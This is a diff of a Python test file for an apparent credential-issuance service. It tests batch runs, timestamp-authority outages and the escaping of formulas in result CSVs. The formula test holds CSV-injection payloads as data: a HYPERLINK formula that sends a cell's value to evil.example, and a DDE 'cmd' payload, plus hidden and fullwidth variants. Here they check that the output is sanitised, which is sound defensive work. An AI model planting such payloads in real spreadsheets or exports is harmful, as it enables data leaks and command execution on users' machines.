@@ -1,25 +1,38 @@
-"""Issuance runs from CSV: the whole file is checked first, and a re-run issues nothing twice."""
+"""Issuance runs: the whole file is checked first, a re-run issues nothing twice, and a run stops whole when the
+TSA is down."""
 
 from __future__ import annotations
 
+import base64
 import csv
 import io
-from datetime import date
+import uuid
+from datetime import date, timedelta
 
 import pytest
+from fastapi.testclient import TestClient
+from pydantic import SecretStr
 from sqlalchemy import func, select
 from sqlalchemy.orm import Session
 
+from microcred import csvfiles
 from microcred.accounts import service as accounts
+from microcred.accounts.models import Role
 from microcred.accounts.principal import Actor
 from microcred.design import service as design
 from microcred.errors import InvalidInput
-from microcred.issuing import batch, documents, status
-from microcred.issuing.models import IssuedCredential, StatusEntry, StatusList
+from microcred.issuing import batch, documents
+from microcred.issuing.models import IssuanceRun, IssuedCredential, StatusEntry
+from microcred.store import Database
+from microcred.store.base import utcnow
 from microcred.trust.keystore import new_master_key, parse_master_key
+from tests.conftest import World
 from tests.design.fixtures import full
+from tests.issuing.test_credentials import published as published_edition
+from tests.web.test_api import bearer
 
 MASTER = parse_master_key(new_master_key())
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&B2,"Click")'
 GOOD = "name,email,identifier,awarded,grade\nAna Andromeda,ana@example.org,,2026-11-20,Pass\nBo,,S-42,2026-11-21,\n"
 
 
@@ -125,38 +138,86 @@ def test_a_chunk_that_fails_is_issued_row_by_row_naming_the_bad_row(db: Session)
     assert len(ids) == len(rows) - 1 and len(places) == len(set(places)) == 2 * (len(rows) - 1)
 
 
-def test_positions_are_random_free_and_a_list_three_quarters_full_gives_way_to_a_new_one(db: Session) -> None:
-    org, _spec = published(db)
-    [first] = status.allocate(db, org, ["urn:uuid:first"], "https://mc.example", ("revocation",))
-    lst = db.scalars(select(StatusList)).one()
-    lst.used = int(lst.size * status.FULL) - 3
-    drawn = status.allocate(db, org, [f"urn:uuid:{n}" for n in range(500)], "https://mc.example", ("revocation",))
-    urls = [d["revocation"]["statusListCredential"] for d in drawn]
-    assert urls[:3] == [first["revocation"]["statusListCredential"]] * 3 and len(set(urls[3:])) == 1 != urls[0]
-    indexes = [int(d["revocation"]["statusListIndex"]) for d in drawn[3:]]
-    assert len(set(indexes)) == 497 and indexes != sorted(indexes)  # distinct, in no order
-    assert max(indexes) > 100_000 and min(indexes) < 30_000  # spread over the list, not counted up
-    places = db.execute(select(StatusEntry.list_id, StatusEntry.position)).all()
-    assert len(places) == len(set(places)) == 501
+def batch_items(count: int, *, bad: int | None = None) -> list[dict[str, object]]:
+    items: list[dict[str, object]] = [
+        {"learner": {"name": f"Learner {n}", "email": f"l{n}@example.org"}, "result": {"awarded": "2026-11-20"}}
+        for n in range(count)
+    ]
+    if bad is not None:
+        items[bad] = {"learner": {"name": "No id"}, "result": {"awarded": "2026-11-20"}}
+    return items
 
 
-@pytest.mark.parametrize("counted", [True, False], ids=["long-in-list", "whole-list-read"])
-def test_positions_already_given_are_never_drawn_again(db: Session, counted: bool) -> None:
-    """Half the list taken (every even position): a batch draws only odd ones, whether the taken positions
-    are looked up by an IN list (a busy list) or read whole (a young list, or one whose count is behind)."""
-    from microcred.store import bulk
-    from microcred.store.base import utcnow
+def issued_count(database: Database) -> int:
+    with database.session() as db:
+        return int(db.scalar(select(func.count()).select_from(IssuedCredential)) or 0)
 
-    org, _spec = published(db)
-    status.allocate(db, org, ["urn:uuid:first"], "https://mc.example", ("revocation",))
-    lst = db.scalars(select(StatusList)).one()
-    first = db.scalars(select(StatusEntry.position)).one()
-    now = utcnow()
-    taken = [p for p in range(0, lst.size, 2) if p != first]
-    rows = [{"list_id": lst.id, "position": p, "credential_id": "x", "created_at": now} for p in taken]
-    bulk.insert_rows(db, StatusEntry, rows)
-    lst.used = len(taken) + 1 if counted else 1
-    drawn = status.allocate(db, org, [f"urn:uuid:{n}" for n in range(1000)], "https://mc.example", ("revocation",))
-    indexes = {int(d["revocation"]["statusListIndex"]) for d in drawn}
-    assert len(indexes) == 1000 and first not in indexes
-    assert all(index % 2 == 1 for index in indexes)
+
+def test_a_run_stops_whole_when_the_tsa_is_down_and_a_dead_run_shows_stopped(
+    client: TestClient, database: Database, world: World
+) -> None:
+    from microcred.accounts.principal import Actor
+    from microcred.issuing import seals
+    from tests import pki
+    from tests.issuing.test_seals import MASTER
+
+    educator = bearer(database, world, "a", Role.EDUCATOR)
+    spec_id = published_edition(client, educator)
+    with database.session() as db:
+        seals.import_pkcs12(db, Actor.operator(), db.merge(world.orgs["a"]), pki.seal_p12(pki.CA()), "secret", MASTER)
+    app = client.app
+    settings = app.state.settings  # type: ignore[attr-defined]
+    master = SecretStr(base64.urlsafe_b64encode(MASTER).decode().rstrip("="))
+    app.state.settings = settings.model_copy(  # type: ignore[attr-defined]
+        update={"tsa_url": "http://127.0.0.1:9/tsa", "master_key": master}
+    )
+    try:
+        url = f"/api/orgs/a/specifications/{spec_id}/editions/1/credentials/batch"
+        run = client.post(url, json={"items": batch_items(3)}, headers=educator).json()
+        stopped = client.get(f"/api/orgs/a/runs/{run['id']}", headers=educator).json()
+    finally:
+        app.state.settings = settings  # type: ignore[attr-defined]
+    assert stopped["state"] == "stopped" and "timestamp authority did not answer" in stopped["detail"]
+    assert "127.0.0.1:9" not in stopped["detail"] and issued_count(database) == 0
+
+    with database.session() as db:
+        job = db.get(IssuanceRun, uuid.UUID(run["id"]))
+        assert job is not None
+        job.state, job.updated_at, job.detail = "running", utcnow() - timedelta(minutes=11), None
+    dead = client.get(f"/api/orgs/a/runs/{run['id']}", headers=educator).json()
+    assert dead["state"] == "stopped" and "interrupted" in dead["detail"]
+
+
+def test_a_formula_in_a_batch_key_comes_out_of_result_csv_as_text() -> None:
+    outcomes = [
+        batch.Outcome(2, FORMULA, "failed", None, "+cmd|' /C calc'!A0"),
+        batch.Outcome(3, "-2+3", "failed", None, "@SUM(1+1)"),
+        batch.Outcome(4, "\tlead", "issued", uuid.UUID(int=1), "\r=1"),
+        batch.Outcome(5, "plain", "issued", uuid.UUID(int=2), ""),
+    ]
+    rows = list(csv.reader(io.StringIO(batch.result_csv(outcomes))))
+    assert rows[1] == ["2", "'" + FORMULA, "failed", "", "'+cmd|' /C calc'!A0"]
+    assert rows[2][1] == "'-2+3" and rows[2][4] == "'@SUM(1+1)"
+    assert rows[3][1] == "'\tlead" and rows[3][4] == "'\r=1"
+    assert rows[4][1] == "plain"
+    assert csvfiles.cell(-5) == -5  # numbers are numbers
+    for hidden in (" =1+1", "\u00a0=1+1", "\ufeff@SUM(A1)", "＝1+1"):  # behind spaces, invisible, fullwidth
+        assert csvfiles.cell(hidden) == "'" + hidden
+
+
+def test_a_queued_run_is_handed_to_be_issued_later_with_what_it_needs(database: Database) -> None:
+    """A route schedules the run with its background tasks: they run once the response is sent, after the
+    request's transaction committed the queued run."""
+    later: list[tuple[tuple[object, ...], dict[str, object]]] = []
+    job = IssuanceRun(id=uuid.uuid4())
+    batch.schedule(
+        lambda *args, **kwargs: later.append((args, kwargs)),
+        database,
+        job,
+        base_url="https://mc.example",
+        master=MASTER,
+        tsa_url=None,
+    )
+    assert later == [
+        ((batch.execute, database, job.id), {"base_url": "https://mc.example", "master": MASTER, "tsa_url": None})
+    ]
